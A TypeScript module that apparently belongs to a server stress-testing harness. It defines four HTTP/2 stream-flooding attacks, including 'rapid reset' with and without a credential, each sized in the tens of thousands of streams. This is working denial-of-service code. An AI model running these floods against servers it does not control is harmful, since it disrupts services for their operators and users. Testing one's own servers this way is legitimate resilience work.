import type { Attack } from '../attack.js';
import { callBusily, REQUEST } from '../call-busily.js';
import { beginCall, callHeaders, dataFrames, READ } from '../call-frames.js';
import { flood } from '../flood.js';

/** As many streams on one socket as it takes. */
export const STREAM_ATTACKS: readonly Attack[] = [
  {
    title: 'streams on one socket, as many at once as the server allows',
    unit: 'streams',
    short: 3_000,
    full: 100_000,
    run: callBusily,
  },
  {
    title: 'streams on one socket, against what the server allows',
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ, target.key);
      await flood(target, size, (connection) => beginCall(connection.newStream(), headers));
    },
  },
  {
    title: 'rapid reset',
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ, target.key);
      await flood(target, size, (connection) => {
        const stream = connection.newStream();
        return Buffer.concat([
          beginCall(stream, headers),
          dataFrames(stream, REQUEST, true),
          connection.cancel(stream),
        ]);
      });
    },
  },
  {
    title: 'rapid reset without a credential',
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ);
      await flood(target, size, (connection) => {
        const stream = connection.newStream();
        return Buffer.concat([beginCall(stream, headers), connection.cancel(stream)]);
      });
    },
  },
];
